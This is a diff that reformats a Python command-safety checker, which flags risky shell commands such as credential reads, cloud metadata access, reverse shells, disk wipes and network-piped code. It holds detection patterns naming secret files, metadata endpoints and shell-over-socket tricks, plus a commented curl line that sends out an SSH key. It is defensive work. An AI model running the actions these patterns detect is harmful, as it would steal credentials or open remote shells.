@@ -603,8 +832,11 @@ def _writes(cmd: Cmd, ws: str | None) -> list[Finding]:
         cls = path_class(v, cmd.cwd, ws)
         if cls == "device":
             out.append(("critical", f"writes to a block device ({v})"))
-        elif CREDENTIAL_PATH.search(v) and re.search(r"(?:^|/)\.env[^/]*$", v) and cls in (
-                "inside", "workspace", "temp"):
+        elif (
+            CREDENTIAL_PATH.search(v)
+            and re.search(r"(?:^|/)\.env[^/]*$", v)
+            and cls in ("inside", "workspace", "temp")
+        ):
             out.append(("medium", f"writes the project's .env file ({v})"))
         elif CREDENTIAL_PATH.search(v):
             out.append(("high", f"writes a credential or key file ({v})"))
@@ -615,21 +847,56 @@ def _writes(cmd: Cmd, ws: str | None) -> list[Finding]:
     return out
 
 
-_CRED_NAME = _LazyRe(r"^['\"]?\*?(?:id_(?:rsa|dsa|ecdsa|ed25519)|\.netrc|\.pgpass|\.gnupg|"
-                        r"\.git-credentials|credentials?(?:\.\w+)?|tokens?|\.aws|\.ssh|\*?\.pem|"
-                        r"\*?\.key|\*?\.kdbx|\*?\.p12|\*?\.pfx|\.env|shadow|secrets?(?:\.\w+)?|"
-                        r"\.vault-token|\.kube|kubeconfig|Login Data|\*?\.keychain(?:-db)?)\*?['\"]?$"
-                        r"|/(?:\.ssh|\.aws|\.gnupg|\.oci|\.kube)(?:/|$)")
-_METADATA = _LazyRe(r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|"
-                       r"169\.254\.170\.2|fd00:ec2::254")
+_CRED_NAME = _LazyRe(
+    r"^['\"]?\*?(?:id_(?:rsa|dsa|ecdsa|ed25519)|\.netrc|\.pgpass|\.gnupg|"
+    r"\.git-credentials|credentials?(?:\.\w+)?|tokens?|\.aws|\.ssh|\*?\.pem|"
+    r"\*?\.key|\*?\.kdbx|\*?\.p12|\*?\.pfx|\.env|shadow|secrets?(?:\.\w+)?|"
+    r"\.vault-token|\.kube|kubeconfig|Login Data|\*?\.keychain(?:-db)?)\*?['\"]?$"
+    r"|/(?:\.ssh|\.aws|\.gnupg|\.oci|\.kube)(?:/|$)"
+)
+_METADATA = _LazyRe(
+    r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|"
+    r"169\.254\.170\.2|fd00:ec2::254"
+)
 
 
-_SECRET_VAR = _LazyRe(r"\$\{?(?:\w*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|"
-                     r"PRIVATE_KEY|CREDENTIAL)\w*)\}?", re.IGNORECASE)
-_NOT_READERS = frozenset({"ls", "stat", "test", "[", "[[", "touch", "mkdir", "chmod", "chown",
-                          "echo", "printf", "ssh-keygen", "ssh-add", "ssh", "scp", "rsync",
-                          "sftp", "git", "find", "rm", "file", "ln", "du", "wc", "realpath",
-                          "readlink", "dirname", "basename"})
+_SECRET_VAR = _LazyRe(
+    r"\$\{?(?:\w*(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY|"
+    r"PRIVATE_KEY|CREDENTIAL)\w*)\}?",
+    re.IGNORECASE,
+)
+_NOT_READERS = frozenset(
+    {
+        "ls",
+        "stat",
+        "test",
+        "[",
+        "[[",
+        "touch",
+        "mkdir",
+        "chmod",
+        "chown",
+        "echo",
+        "printf",
+        "ssh-keygen",
+        "ssh-add",
+        "ssh",
+        "scp",
+        "rsync",
+        "sftp",
+        "git",
+        "find",
+        "rm",
+        "file",
+        "ln",
+        "du",
+        "wc",
+        "realpath",
+        "readlink",
+        "dirname",
+        "basename",
+    }
+)
 _PATTERN_FIRST = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk"})
 
 
@@ -638,8 +905,7 @@ def _read_paths(cmd: Cmd) -> list[str]:
     if cmd.prog in _NOT_READERS:
         return []
     words = [w for w in cmd.argv[1:] if w.static]
-    if cmd.prog in _PATTERN_FIRST and not any(w.value in ("-e", "-f", "--regexp", "--file")
-                                              for w in words):
+    if cmd.prog in _PATTERN_FIRST and not any(w.value in ("-e", "-f", "--regexp", "--file") for w in words):
         operands = [w for w in words if not w.value.startswith("-")]
         words = [w for w in words if w is not (operands[0] if operands else None)]
     if cmd.prog in ("cp", "mv", "install", "tee", "dd"):  # the destination is written
@@ -659,19 +925,26 @@ def _credentials(cmd: Cmd, sink_network: bool, ws: str | None) -> list[Finding]:
         if any(_METADATA.search(w.value) for w in cmd.argv[1:]):
             return [("high", "reads credentials or keys (a cloud metadata endpoint)")]
         for w in cmd.argv[1:]:  # curl http://x/$(cat ~/.ssh/id_rsa), -d "$API_TOKEN"
-            if not w.static and (_SECRET_VAR.search(w.value) or any(
-                    CREDENTIAL_PATH.search(t) for t in re.split(r"[\s|;&()`'\"]+", w.value))):
+            if not w.static and (
+                _SECRET_VAR.search(w.value)
+                or any(CREDENTIAL_PATH.search(t) for t in re.split(r"[\s|;&()`'\"]+", w.value))
+            ):
                 return [("critical", f"sends credentials over the network ({w.value[:60]})")]
-    if cmd.prog == "gh" and cmd.args[:2] in (["auth", "token"], ["auth", "status"]) and (
-            cmd.args[:2] == ["auth", "token"] or "--show-token" in cmd.args):
+    if (
+        cmd.prog == "gh"
+        and cmd.args[:2] in (["auth", "token"], ["auth", "status"])
+        and (cmd.args[:2] == ["auth", "token"] or "--show-token" in cmd.args)
+    ):
         return [("high", "reads credentials or keys (gh auth token)")]
     paths = _read_paths(cmd)
     strong = [v for v in paths if CREDENTIAL_PATH.search(v)]
-    weak = [v for v in paths if KEY_FILE.search(v) and path_class(v, cmd.cwd, ws) not in (
-        "inside", "workspace", "temp")]
+    weak = [
+        v
+        for v in paths
+        if KEY_FILE.search(v) and path_class(v, cmd.cwd, ws) not in ("inside", "workspace", "temp")
+    ]
     hits = strong or weak
-    if sink_network and (hits or cmd.prog in ("env", "printenv") or (
-            cmd.prog == "set" and not cmd.args)):
+    if sink_network and (hits or cmd.prog in ("env", "printenv") or (cmd.prog == "set" and not cmd.args)):
         return [("critical", f"sends credentials over the network ({(hits or [cmd.prog])[0]})")]
     if not hits:
         return []
@@ -687,26 +960,63 @@ def _credential_search(cmd: Cmd, ws: str | None) -> list[Finding]:
         from ._parse import _find_starts
 
         starts = _find_starts(cmd.argv[1:])[0]
-        if all(path_class(s, cmd.cwd, ws) in ("inside", "workspace", "git", "temp")
-               for s in starts):
+        if all(path_class(s, cmd.cwd, ws) in ("inside", "workspace", "git", "temp") for s in starts):
             return []
-        names = [args[i + 1] for i, a in enumerate(args[:-1]) if a in (
-            "-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename")]
+        names = [
+            args[i + 1]
+            for i, a in enumerate(args[:-1])
+            if a in ("-name", "-iname", "-path", "-ipath", "-regex", "-iregex", "-wholename")
+        ]
     else:
         names = [a for a in args if not a.startswith("-")]
     found = [n for n in names if _CRED_NAME.search(n)]
     return [("high", f"reads credentials or keys (searches for {found[0]})")] if found else []
 
 
-_PY_DELETE = {"shutil.rmtree": True, "os.remove": False, "os.unlink": False, "os.rmdir": False,
-              "os.removedirs": True, "rmtree": True, "remove": False, "unlink": False,
-              "rmdir": False}
+_PY_DELETE = {
+    "shutil.rmtree": True,
+    "os.remove": False,
+    "os.unlink": False,
+    "os.rmdir": False,
+    "os.removedirs": True,
+    "rmtree": True,
+    "remove": False,
+    "unlink": False,
+    "rmdir": False,
+}
 # Calls that run a shell command line (a string) or a program (a list of arguments).
-_PY_SHELL = ("system", "popen", "run", "call", "Popen", "check_call", "check_output",
-             "getoutput", "getstatusoutput", "spawn")
-_PY_EXEC = ("execv", "execve", "execvp", "execvpe", "execl", "execle", "execlp", "execlpe",
-            "spawnv", "spawnve", "spawnvp", "spawnvpe", "spawnl", "spawnle", "spawnlp",
-            "spawnlpe", "posix_spawn", "posix_spawnp")
+_PY_SHELL = (
+    "system",
+    "popen",
+    "run",
+    "call",
+    "Popen",
+    "check_call",
+    "check_output",
+    "getoutput",
+    "getstatusoutput",
+    "spawn",
+)
+_PY_EXEC = (
+    "execv",
+    "execve",
+    "execvp",
+    "execvpe",
+    "execl",
+    "execle",
+    "execlp",
+    "execlpe",
+    "spawnv",
+    "spawnve",
+    "spawnvp",
+    "spawnvpe",
+    "spawnl",
+    "spawnle",
+    "spawnlp",
+    "spawnlpe",
+    "posix_spawn",
+    "posix_spawnp",
+)
 _SHELL_PATHS = re.compile(r"^(?:/usr)?/bin/(?:ba|z|da|k)?sh$|^(?:ba|z|da|k)?sh$")
 
 
@@ -732,8 +1042,12 @@ def _py_path(node) -> str | None:
         name = _dotted(node.func)
         if name.endswith(("Path.home", "expanduser.home")) or name in ("home",):
             return "~"
-        if name.endswith(("expanduser", "Path", "abspath", "realpath", "expandvars",
-                          "PurePath", "PosixPath")) and node.args:
+        if (
+            name.endswith(
+                ("expanduser", "Path", "abspath", "realpath", "expandvars", "PurePath", "PosixPath")
+            )
+            and node.args
+        ):
             return _py_path(node.args[0])
         if name.endswith(".expanduser()") or name.endswith((".resolve", ".absolute")):
             return _py_path(node.func.value) if isinstance(node.func, ast.Attribute) else None
@@ -749,23 +1063,30 @@ def _python(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
     try:
         tree = ast.parse(code)
     except (SyntaxError, ValueError, MemoryError, RecursionError):
-        return [("high", "python code that could not be analysed")] if len(code) > 20_000 \
-            else []
+        return [("high", "python code that could not be analysed")] if len(code) > 20_000 else []
     out: list[Finding] = []
     names = {n.id for n in ast.walk(tree) if isinstance(n, ast.Name)} | {
-        n.attr for n in ast.walk(tree) if isinstance(n, ast.Attribute)}
+        n.attr for n in ast.walk(tree) if isinstance(n, ast.Attribute)
+    }
     for node in ast.walk(tree):
         if not isinstance(node, ast.Call):
             continue
         name = _dotted(node.func)
         last = name.rsplit(".", 1)[-1].rstrip("()")
-        first = node.args[0] if node.args else next(
-            (k.value for k in node.keywords if k.arg in ("path", "args", "cmd", "src")), None)
+        first = (
+            node.args[0]
+            if node.args
+            else next((k.value for k in node.keywords if k.arg in ("path", "args", "cmd", "src")), None)
+        )
         if name in _PY_DELETE or last in ("rmtree", "unlink", "remove", "rmdir", "removedirs"):
             recursive = _PY_DELETE.get(name, last in ("rmtree", "removedirs"))
             target = _py_path(first) if first is not None else None
-            if target is None and isinstance(node.func, ast.Attribute) and last in (
-                    "unlink", "rmdir") and isinstance(node.func.value, ast.Call):
+            if (
+                target is None
+                and isinstance(node.func, ast.Attribute)
+                and last in ("unlink", "rmdir")
+                and isinstance(node.func.value, ast.Call)
+            ):
                 target = _py_path(node.func.value)  # Path('x').unlink()
             if target is not None:
                 cls = path_class(posixpath.expanduser(target.replace("\x00", "")), cmd.cwd, ws)
@@ -773,19 +1094,27 @@ def _python(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
                 if level:
                     out.append((level, f"{name}() deletes {_CLASS_NAME[cls]} ({target})"))
         elif last in _PY_SHELL or last in _PY_EXEC or name == "pty.spawn":
-            argv_node = node.args[1] if last in _PY_EXEC and len(node.args) > 1 and isinstance(
-                node.args[1], (ast.List, ast.Tuple)) else first
+            argv_node = (
+                node.args[1]
+                if last in _PY_EXEC and len(node.args) > 1 and isinstance(node.args[1], (ast.List, ast.Tuple))
+                else first
+            )
             if isinstance(argv_node, ast.Constant) and isinstance(argv_node.value, str):
                 out.extend(again(argv_node.value))
             elif isinstance(argv_node, (ast.List, ast.Tuple)):
-                parts = [e.value for e in argv_node.elts
-                         if isinstance(e, ast.Constant) and isinstance(e.value, str)]
+                parts = [
+                    e.value
+                    for e in argv_node.elts
+                    if isinstance(e, ast.Constant) and isinstance(e.value, str)
+                ]
                 if parts and len(parts) == len(argv_node.elts):
                     out.extend(again(" ".join(shlex.quote(p) for p in parts)))
-                    if _SHELL_PATHS.match(parts[0]) and "socket" in names and (
-                            "dup2" in names or "-i" in parts):
-                        out.append(("critical", "a shell wired to a network socket (reverse "
-                                                "shell)"))
+                    if (
+                        _SHELL_PATHS.match(parts[0])
+                        and "socket" in names
+                        and ("dup2" in names or "-i" in parts)
+                    ):
+                        out.append(("critical", "a shell wired to a network socket (reverse shell)"))
             if name == "pty.spawn" and "socket" in names:
                 out.append(("critical", "a shell wired to a network socket (reverse shell)"))
             elif name == "pty.spawn":
@@ -801,16 +1130,22 @@ def _python(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
     return out
 
 
-_JS_DELETE = _LazyRe(r"\b(rmSync|rmdirSync|rm|rmdir|unlinkSync|unlink|rimraf|rm_rf|rm_r|"
-                     r"rmtree|remove_dir_all|remove_tree)\s*\(\s*(?:['\"]([^'\"]+)['\"]|"
-                     r"((?:require\(\s*['\"]os['\"]\s*\)|os)\.homedir\(\s*\)|"
-                     r"process\.env\.HOME|Dir\.home|ENV\[['\"]HOME['\"]\]|\$ENV\{HOME\}))")
+_JS_DELETE = _LazyRe(
+    r"\b(rmSync|rmdirSync|rm|rmdir|unlinkSync|unlink|rimraf|rm_rf|rm_r|"
+    r"rmtree|remove_dir_all|remove_tree)\s*\(\s*(?:['\"]([^'\"]+)['\"]|"
+    r"((?:require\(\s*['\"]os['\"]\s*\)|os)\.homedir\(\s*\)|"
+    r"process\.env\.HOME|Dir\.home|ENV\[['\"]HOME['\"]\]|\$ENV\{HOME\}))"
+)
 # system("cmd"), exec "cmd", `cmd`, qx{cmd}, execSync('cmd'), system("rm","-rf","/") (a list)
-_JS_SHELL = _LazyRe(r"\b(?:execSync|execFileSync|exec|spawnSync|spawn|system|popen|qx|"
-                    r"shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+)\s*\(?\s*"
-                    r"((?:['\"][^'\"]*['\"]\s*,?\s*)+)|`([^`$]+)`")
-_REVERSE = _LazyRe(r"fsockopen|socket\.socket|new\s+net\.Socket|net\.connect|IO::Socket|"
-                   r"TCPSocket|Socket\.new|/dev/tcp/")
+_JS_SHELL = _LazyRe(
+    r"\b(?:execSync|execFileSync|exec|spawnSync|spawn|system|popen|qx|"
+    r"shell_exec|passthru|proc_open|IO\.popen|Open3\.\w+)\s*\(?\s*"
+    r"((?:['\"][^'\"]*['\"]\s*,?\s*)+)|`([^`$]+)`"
+)
+_REVERSE = _LazyRe(
+    r"fsockopen|socket\.socket|new\s+net\.Socket|net\.connect|IO::Socket|"
+    r"TCPSocket|Socket\.new|/dev/tcp/"
+)
 
 
 def _script(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
@@ -835,11 +1170,21 @@ def _script(code: str, cmd: Cmd, ws: str | None, again) -> list[Finding]:
     return out
 
 
-_CODE_FLAGS = {"python": ("-c",), "node": ("-e", "-p", "--eval", "--print"),
-               "perl": ("-e", "-E"), "ruby": ("-e",), "php": ("-r",), "awk": ()}
-_OPTS_WITH_ARG = {"python": ("-W", "-X", "-Q"), "node": ("-r", "--require", "--import",
-                                                         "--loader", "--input-type"),
-                  "perl": ("-I", "-M", "-m"), "ruby": ("-I", "-r"), "php": ("-d", "-c")}
+_CODE_FLAGS = {
+    "python": ("-c",),
+    "node": ("-e", "-p", "--eval", "--print"),
+    "perl": ("-e", "-E"),
+    "ruby": ("-e",),
+    "php": ("-r",),
+    "awk": (),
+}
+_OPTS_WITH_ARG = {
+    "python": ("-W", "-X", "-Q"),
+    "node": ("-r", "--require", "--import", "--loader", "--input-type"),
+    "perl": ("-I", "-M", "-m"),
+    "ruby": ("-I", "-r"),
+    "php": ("-d", "-c"),
+}
 
 
 def _inline_code(cmd: Cmd, lang: str) -> str | None:
@@ -870,8 +1215,11 @@ def _inline_code(cmd: Cmd, lang: str) -> str | None:
         if not v.startswith("-"):
             break
         i += 1
-    if cmd.stdin in ("heredoc", "literal") and cmd.stdin_text and (
-            not [a for a in args if not a.value.startswith("-")] or "-" in cmd.args):
+    if (
+        cmd.stdin in ("heredoc", "literal")
+        and cmd.stdin_text
+        and (not [a for a in args if not a.value.startswith("-")] or "-" in cmd.args)
+    ):
         return cmd.stdin_text
     return None
 
@@ -883,8 +1231,7 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
     """
     out: list[Finding] = []
     sinks = {c.line for c in parsed.commands if c.prog in NETWORK and c.stdin is not None}
-    interactive = {c.line for c in parsed.commands if c.prog in SHELLS and (
-        not c.args or "-i" in c.args)}
+    interactive = {c.line for c in parsed.commands if c.prog in SHELLS and (not c.args or "-i" in c.args)}
     for cmd in parsed.commands:
         prog = cmd.prog
         if not cmd.argv:
@@ -898,16 +1245,22 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
             else:  # eval "$(pyenv init -)" and the like: reported, not asked
                 out.append(("medium", f"runs code known only at run time ({cmd.wrappers[-1]})"))
             continue
-        if prog == "<dynamic program>" and any(re.match(r"^-[a-zA-Z]*[rRf]", a)
-                                               for a in cmd.args):
+        if prog == "<dynamic program>" and any(re.match(r"^-[a-zA-Z]*[rRf]", a) for a in cmd.args):
             # $(echo rm) -rf ~: an unknown program, flags of a delete, and a target that matters
-            hits = [(c, v) for c, v in _targets(cmd, [w for w in cmd.argv[1:] if not
-                                                      w.value.startswith("-")], cmd.cwd,
-                                                workspace)
-                    if c in ("root", "home", "system", "device")]
+            hits = [
+                (c, v)
+                for c, v in _targets(
+                    cmd, [w for w in cmd.argv[1:] if not w.value.startswith("-")], cmd.cwd, workspace
+                )
+                if c in ("root", "home", "system", "device")
+            ]
             if hits:
-                out.append(("high", f"a program known only at run time acts on "
-                                    f"{_CLASS_NAME[hits[0][0]]} ({hits[0][1]})"))
+                out.append(
+                    (
+                        "high",
+                        f"a program known only at run time acts on {_CLASS_NAME[hits[0][0]]} ({hits[0][1]})",
+                    )
+                )
         if prog in ("rm", "unlink"):
             out.extend(_rm(cmd, workspace))
         elif prog in ("scp", "sftp", "rsync"):
@@ -922,60 +1275,103 @@ def judge_commands(parsed: Parsed, workspace: str | None, again) -> list[Finding
             out.extend(_git(cmd, workspace))
         elif prog in ("chmod", "chown", "chgrp"):
             out.extend(_perms(cmd, workspace))
-        elif prog.split(".")[0] in _DISK_TOOLS or (prog == "diskutil" and any(
-                a.startswith(("erase", "partition", "zero", "secureErase")) for a in cmd.args)):
+        elif prog.split(".")[0] in _DISK_TOOLS or (
+            prog == "diskutil"
+            and any(a.startswith(("erase", "partition", "zero", "secureErase")) for a in cmd.args)
+        ):
             out.append(("critical", f"{prog} rewrites a disk or partition"))
         elif prog in ("nc", "ncat", "netcat", "socat", "telnet"):
             args = cmd.args
-            runs = [args[i + 1] for i, a in enumerate(args[:-1])
-                    if a in ("-e", "-c", "--exec", "--sh-exec")]
+            runs = [args[i + 1] for i, a in enumerate(args[:-1]) if a in ("-e", "-c", "--exec", "--sh-exec")]
             runs += [a.split(":", 1)[1] for a in args if a.startswith(("exec:", "EXEC:"))]
-            if any(posixpath.basename(r.split()[0]) in SHELLS for r in runs if r.split()) or any(
-                    posixpath.basename(a) in SHELLS for a in args) or cmd.line in interactive:
+            if (
+                any(posixpath.basename(r.split()[0]) in SHELLS for r in runs if r.split())
+                or any(posixpath.basename(a) in SHELLS for a in args)
+                or cmd.line in interactive
+            ):
                 out.append(("critical", f"{prog} hands a shell to the network (reverse shell)"))
             elif runs:
                 out.append(("high", f"{prog} runs a command for the network ({runs[0]})"))
             else:
                 out.append(("high", f"{prog}: raw network connection or listener"))
-        elif prog in SHELLS and cmd.stdin in ("network", "decoded", "dynamic") and not [
-                a for a in cmd.args if not a.startswith("-")]:
-            out.append({"network": ("critical", "pipes code from the network into a shell"),
-                        "decoded": ("high", "decodes a payload and pipes it into a shell"),
-                        "dynamic": ("high", "pipes generated text into a shell")}[cmd.stdin])
-        elif prog in SHELLS and cmd.wrappers and cmd.wrappers[-1] in (
-                "xargs", "find -exec", "find -execdir", "find -ok", "find -okdir", "env",
-                "flock", "nice", "timeout", "stdbuf", "setsid") and not cmd.args:
+        elif (
+            prog in SHELLS
+            and cmd.stdin in ("network", "decoded", "dynamic")
+            and not [a for a in cmd.args if not a.startswith("-")]
+        ):
+            out.append(
+                {
+                    "network": ("critical", "pipes code from the network into a shell"),
+                    "decoded": ("high", "decodes a payload and pipes it into a shell"),
+                    "dynamic": ("high", "pipes generated text into a shell"),
+                }[cmd.stdin]
+            )
+        elif (
+            prog in SHELLS
+            and cmd.wrappers
+            and cmd.wrappers[-1]
+            in (
+                "xargs",
+                "find -exec",
+                "find -execdir",
+                "find -ok",
+                "find -okdir",
+                "env",
+                "flock",
+                "nice",
+                "timeout",
+                "stdbuf",
+                "setsid",
+            )
+            and not cmd.args
+        ):
             out.append(("high", f"starts an interactive shell through {cmd.wrappers[-1]}"))
         runs_file = prog in SHELLS or prog in ("source", ".") or prog in INTERPRETERS
         if runs_file and any("network" in w.sources for w in cmd.argv[1:]):
             out.append(("critical", "runs code downloaded from the network"))
-        script = cmd.argv[0] if not runs_file else next(
-            (w for w in cmd.argv[1:] if not w.value.startswith("-")), None)
-        if (script is not None and script.static and path_class(script.value, cmd.cwd, workspace) == \
-                "temp" and "/" in script.value) or (script is not None and re.match(
-                r"^(?:~|/home/[^/]+|/Users/[^/]+|/root)?/Downloads/", script.value)):
+        script = (
+            cmd.argv[0]
+            if not runs_file
+            else next((w for w in cmd.argv[1:] if not w.value.startswith("-")), None)
+        )
+        if (
+            script is not None
+            and script.static
+            and path_class(script.value, cmd.cwd, workspace) == "temp"
+            and "/" in script.value
+        ) or (
+            script is not None
+            and re.match(r"^(?:~|/home/[^/]+|/Users/[^/]+|/root)?/Downloads/", script.value)
+        ):
             out.append(("high", f"executes a file from a temp or download folder ({script.value})"))
         as_root = bool({"sudo", "doas", "pkexec"} & set(cmd.wrappers))
         if as_root and (prog == "su" or (prog in SHELLS and not cmd.args and cmd.stdin is None)):
             out.append(("high", "opens a root shell"))
         sockets = [op for op, w in cmd.redirects if "/dev/tcp/" in w.value or "/dev/udp/" in w.value]
         if prog in SHELLS or prog in ("source", "."):
-            out.extend(("critical", "shell wired to a network socket (reverse shell)")
-                       for _ in sockets)
+            out.extend(("critical", "shell wired to a network socket (reverse shell)") for _ in sockets)
         lang = INTERPRETERS.get(prog) or INTERPRETERS.get(re.sub(r"[\d.]+$", "", prog))
         if lang:
             code = _inline_code(cmd, lang)
-            if code is None and cmd.stdin in ("network", "decoded", "dynamic") and not [
-                    a for a in cmd.args if not a.startswith("-") or a.startswith("-m")]:
-                out.append(("critical" if cmd.stdin == "network" else "high",
-                            f"pipes {cmd.stdin} code into {prog}"))
+            if (
+                code is None
+                and cmd.stdin in ("network", "decoded", "dynamic")
+                and not [a for a in cmd.args if not a.startswith("-") or a.startswith("-m")]
+            ):
+                out.append(
+                    ("critical" if cmd.stdin == "network" else "high", f"pipes {cmd.stdin} code into {prog}")
+                )
             elif code:
-                out.extend(_python(code, cmd, workspace, again) if lang == "python"
-                           else _script(code, cmd, workspace, again))
+                out.extend(
+                    _python(code, cmd, workspace, again)
+                    if lang == "python"
+                    else _script(code, cmd, workspace, again)
+                )
         if prog == "trap" and "DEBUG" in cmd.args[1:]:
             out.append(("high", "runs a command before every command (trap DEBUG)"))
-        elif "trap" in cmd.wrappers and (prog in SHELLS or prog in INTERPRETERS or "/" in (
-                cmd.argv[0].value if cmd.argv else "")):
+        elif "trap" in cmd.wrappers and (
+            prog in SHELLS or prog in INTERPRETERS or "/" in (cmd.argv[0].value if cmd.argv else "")
+        ):
             out.append(("high", f"a trap starts a program when the shell exits ({prog})"))
         out.extend(_system_change(cmd))
         out.extend(_cloud(cmd))
